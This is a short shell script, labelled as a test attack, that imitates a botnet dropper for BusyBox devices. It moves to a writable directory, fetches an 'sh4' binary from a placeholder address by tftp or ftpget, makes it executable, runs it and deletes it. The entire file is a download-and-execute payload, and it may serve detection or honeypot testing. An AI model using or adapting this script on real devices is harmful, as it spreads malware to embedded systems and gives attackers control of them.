#!/bin/sh
# shrike-test-attack: download-exec: tftp and ftpget fallbacks in busybox userland
cd /tmp || cd /run || cd /
tftp -g -r sh4 192.0.2.77 2>/dev/null || ftpget -v -u anonymous -p anonymous -P 21 192.0.2.77 sh4 sh4
chmod 777 sh4; ./sh4 tftp.boot; rm -rf sh4
